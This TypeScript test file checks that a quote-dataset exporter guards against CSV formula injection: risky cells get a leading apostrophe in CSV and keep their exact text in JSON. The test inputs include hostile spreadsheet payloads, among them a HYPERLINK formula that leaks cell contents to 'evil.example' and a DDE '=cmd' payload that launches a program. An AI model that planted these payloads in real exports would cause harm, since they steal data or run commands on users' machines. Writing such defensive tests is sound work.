import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import type { Dataset, PersonRecord, QuoteRecord } from "@parley/model";
import { publishDataset, renderDataset } from "@parley/export";
import { fieldsOf, parseCsv } from "@parley/validate";
import { FRONT, TEST_SPEAKER, buildFolder, sourceFile, tempDir, testRegistry, removeTempDirs } from "./_helpers.ts";

afterAll(removeTempDirs);

// OWASP CSV injection: a cell a spreadsheet would run as a formula gets a leading apostrophe in CSV; JSON keeps the exact text.
const NO_ASSERTIONS = { min_rows: {}, max_rows: {} };

const quote = (text: string): QuoteRecord => ({
  quote_id: "quote:000000000001",
  text,
  kind: null,
  medium: null,
  said_on: null,
  translated: null,
  curated_fields: [],
  speaker_type: "person",
  speaker_id: "person:elena-marquez",
  speaker_name: TEST_SPEAKER.name,
  speaker_role: null,
  speaker_role_key: null,
  speaker_country: null,
  meeting_id: null,
  source_ids: ["wire-report"],
});
const person = (aliases: string[]): PersonRecord => ({
  person_id: "person:elena-marquez",
  name: TEST_SPEAKER.name,
  aliases,
  country: null,
  role: null,
  curated_fields: [],
});
const dataset = (quotes: QuoteRecord[], people: PersonRecord[] = []): Dataset => ({
  sources: [],
  meetings: [],
  attendees: [],
  quotes,
  quote_sources: [],
  people,
  roles: [],
  evidence: [],
});

/** The raw CSV cell and the JSON value of one field of the first row of a table. */
function cellsOf(
  files: Map<string, string>,
  table: "quotes" | "people",
  field: string,
): { csv: string; json: unknown } {
  const csv = parseCsv(files.get(`${table}.csv`) ?? "");
  const column = csv.header.indexOf(field);
  const json = JSON.parse(files.get(`${table}.json`) ?? "[]") as Array<Record<string, unknown>>;
  return { csv: csv.rows[0]?.[column] ?? "", json: json[0]?.[field] };
}

describe("CSV cells a spreadsheet would run", () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Read the full statement")', "'"],
    ["=1+1", "'"],
    ["+7 495 244-16-06 is the ministry's number", "'"],
    ["-5 percent is what the economy lost, the minister said", "'"],
    ["@SUM(A1:A9) cells", "'"],
    ["\tindented with a tab", "'"],
    ["\rstarting with a carriage return", "'"],
    ["'already quoted with an apostrophe", "'"],
    ["We will continue to develop multifaceted contacts.", ""],
    ["Talks ended; =the minister left", ""],
  ])("%j gets %j in CSV and stays exact in JSON", (text, prefix) => {
    const files = renderDataset(dataset([quote(text)]));
    const { csv, json } = cellsOf(files, "quotes", "text");
    expect(csv).toBe(`${prefix}${text}`);
    expect(json).toBe(text);
    // OWASP also wants the neutralised cell inside double quotes.
    if (prefix === "'") expect(files.get("quotes.csv")).toContain(`,"'${text.slice(0, 3).replace(/"/g, '""')}`);
  });

  it("neutralises a list cell whose first item starts a formula", () => {
    const files = renderDataset(dataset([], [person(["=cmd|' /C calc'!A0", "E. Marquez"])]));
    const { csv, json } = cellsOf(files, "people", "aliases");
    expect(csv).toBe("'=cmd|' /C calc'!A0;E. Marquez");
    expect(json).toEqual(["=cmd|' /C calc'!A0", "E. Marquez"]);
  });

  it("reads back to the same records: line breaks, carriage returns and quotation marks inside cells", () => {
    const out = join(tempDir("csv-roundtrip"), "dataset");
    const texts = [
      "first line\nsecond line",
      "a\r\nb",
      'He said "no" twice, then "yes"',
      "\r",
      "=\n=",
      "ends with a return\r",
    ];
    const quotes = texts.map((text, i) => ({
      ...quote(text),
      quote_id: `quote:00000000000${i}`,
      source_ids: ["wire-report"],
    }));
    const base: Dataset = {
      ...dataset(quotes, [person([])]),
      sources: [
        {
          source_id: "wire-report",
          title: "T",
          publisher: "P",
          url: null,
          published: "2024",
          language: "en",
          title_is_headline: true,
          unknown_fields: [],
          retrieved: null,
          curated_fields: [],
          sha256: "0".repeat(64),
        },
      ],
    };
    publishDataset(base, out, NO_ASSERTIONS);
    const json = JSON.parse(readFileSync(join(out, "quotes.json"), "utf8")) as QuoteRecord[];
    expect(json.map((q) => q.text)).toEqual(texts);
    expect(
      parseCsv(readFileSync(join(out, "quotes.csv"), "utf8")).rows.map(
        (r) => r[fieldsOf("quotes").findIndex((f) => f.name === "text")],
      ),
    ).toEqual(texts.map((t) => (/^[=+\-@\t\r']/.test(t) ? `'${t}` : t)));
  });
});

describe("a hostile source article", () => {
  it("comes out with =HYPERLINK( neutralised in CSV and exact in JSON", async () => {
    const root = tempDir("injection");
    const sources = join(root, "sources");
    mkdirSync(sources);
    const title = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the statement")';
    const body = [
      "Foreign ministers met in Madrid on Friday to discuss security in the region, officials said.",
      `“=HYPERLINK(B2, C2) opens whatever the cell says, so check every link before you click,” ${TEST_SPEAKER.name} said.`,
    ].join("\n");
    writeFileSync(
      join(sources, "wire-report.md"),
      sourceFile({ ...FRONT, title: `'${title.replace(/'/g, "''")}'` }, body),
    );
    const out = join(root, "out");
    const files = publishDataset((await buildFolder(sources, testRegistry())).dataset, out, NO_ASSERTIONS);
    const read = (name: string): string => readFileSync(join(out, name), "utf8");

    const sourcesCsv = parseCsv(readFileSync(join(out, "sources.csv"), "utf8"));
    expect(sourcesCsv.rows[0]?.[sourcesCsv.header.indexOf("title")]).toBe(`'${title}`);
    expect((JSON.parse(readFileSync(join(out, "sources.json"), "utf8")) as Array<{ title: string }>)[0]?.title).toBe(
      title,
    );

    const quotesJson = JSON.parse(read("quotes.json")) as QuoteRecord[];
    const hostile = quotesJson.find((q) => q.text.startsWith("=HYPERLINK("));
    expect(hostile, "the extractor found the quote").toBeDefined();
    const quotesCsv = parseCsv(readFileSync(join(out, "quotes.csv"), "utf8"));
    const textColumn = quotesCsv.header.indexOf("text");
    expect(quotesCsv.rows.map((r) => r[textColumn])).toContain(`'${hostile?.text}`);
    // No CSV cell anywhere in the dataset starts a formula.
    for (const name of files) {
      if (!name.endsWith(".csv")) continue;
      for (const row of parseCsv(read(name)).rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
